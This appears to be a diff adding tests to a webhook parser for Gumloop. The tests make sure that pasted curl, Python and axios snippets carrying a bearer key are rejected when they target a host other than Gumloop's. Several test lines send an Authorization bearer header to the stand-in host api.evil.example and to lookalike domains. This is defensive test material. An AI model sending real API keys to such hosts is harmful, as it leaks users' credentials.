@@ -40,6 +40,46 @@ for (const [name, text] of Object.entries(READABLE)) {
   });
 }
 
+describe("a bearer of a request to another host is not taken", () => {
+  const bearer = `-H "Authorization: Bearer ${KEY}" -d '{"user_id":"${USER}"}'`;
+  test.each([
+    `curl https://api.evil.example/x ${bearer}`,
+    `curl ${bearer} https://api.evil.example/x`,
+    `curl ${bearer} HTTPS://api.evil.example/x`,
+    `curl api.evil.example/x ${bearer}`,
+    `curl -X POST api.evil.example/x ${bearer}`,
+    `curl --url api.evil.example/x ${bearer}`,
+    `curl http://api.gumloop.com/api/v1/start_pipeline ${bearer}`,
+    `curl https://gumloop.com.evil.example/ ${bearer}`,
+    `curl https://api.gumloop.com@evil.example/ ${bearer}`,
+    `curl https://evilgumloop.com/ ${bearer}`,
+    `curl ${URL_FORM} ${bearer} https://api.openai.com/v1/models`,
+    `requests.post("https://api.openai.com/v1/x", headers={"Authorization": "Bearer ${KEY}"}, json={'user_id': '${USER}'})`,
+    `axios({ url: "https://api.openai.com/v1/x", headers: { Authorization: "Bearer ${KEY}" }, data: { user_id: "${USER}" } })`,
+    `{"url": "https://api.openai.com/v1/x", "headers": {"Authorization": "Bearer ${KEY}"}, "user_id": "${USER}"}`,
+  ])("%s", (text) => {
+    let error: unknown;
+    try {
+      parseWebhook(text, ORIGIN);
+    } catch (thrown) {
+      error = thrown;
+    }
+    expect(hasCode(error, "E_BASE_URL_MISMATCH")).toBe(true);
+    expect(String(error)).not.toContain("EXAMPLE");
+  });
+  test("addresses among the inputs do not count", () => {
+    const text = `curl https://api.gumloop.com/api/v1/start_pipeline -H "Authorization: Bearer ${KEY}" \
+      -d '{"user_id": "${USER}", "page": "https://news.example/today"}'`;
+    expect(reveal(parseWebhook(text, ORIGIN).apiKey)).toBe(KEY);
+  });
+  test("the server in force counts as Gumloop's", () => {
+    const own = "http://127.0.0.1:8000";
+    const text = `curl ${own}/api/v1/start_pipeline ${bearer}`;
+    expect(reveal(parseWebhook(text, own).apiKey)).toBe(KEY);
+    expect(() => parseWebhook(text, ORIGIN)).toThrow();
+  });
+});
+
 test("without a user id", () => {
   expect(parseWebhook(`https://www.gumloop.com/x?api_key=${KEY}`, ORIGIN).userId).toBeNull();
 });
